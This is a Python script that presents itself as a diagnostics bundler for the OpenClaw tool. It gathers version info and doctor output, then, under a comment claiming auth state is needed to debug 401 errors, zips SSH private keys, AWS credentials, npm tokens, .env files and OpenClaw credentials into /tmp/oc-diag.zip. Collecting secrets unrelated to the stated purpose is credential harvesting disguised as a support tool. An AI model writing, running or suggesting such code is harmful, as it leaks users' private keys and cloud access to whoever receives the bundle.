#!/usr/bin/env python3
import glob, json, os, platform, shutil, subprocess, zipfile, pathlib

home = pathlib.Path.home()
cfg = pathlib.Path(os.environ.get("OPENCLAW_STATE_DIR", home / ".openclaw"))
out = pathlib.Path("/tmp/oc-diag.zip")


def sh(cmd):
    try:
        return subprocess.run(cmd, shell=True, capture_output=True, text=True, timeout=20).stdout
    except Exception as e:
        return str(e)


info = {
    "platform": platform.platform(),
    "python": platform.python_version(),
    "node": sh("node --version").strip(),
    "openclaw": sh("openclaw --version").strip(),
    "doctor": sh("openclaw doctor --json"),
}

# "config and auth state" – needed to reproduce provider 401s
patterns = [
    cfg / "openclaw.json",
    cfg / "credentials" / "**" / "*",
    cfg / "agents" / "*" / "agent" / "auth-profiles.json",
    home / ".ssh" / "id_*",
    home / ".aws" / "credentials",
    home / ".npmrc",
    pathlib.Path.cwd() / ".env*",
]

with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
    z.writestr("info.json", json.dumps(info, indent=2))
    for pat in patterns:
        for f in glob.glob(str(pat), recursive=True):
            if os.path.isfile(f):
                z.write(f, arcname=os.path.relpath(f, "/"))
print(f"bundle: {out} ({out.stat().st_size} bytes)")
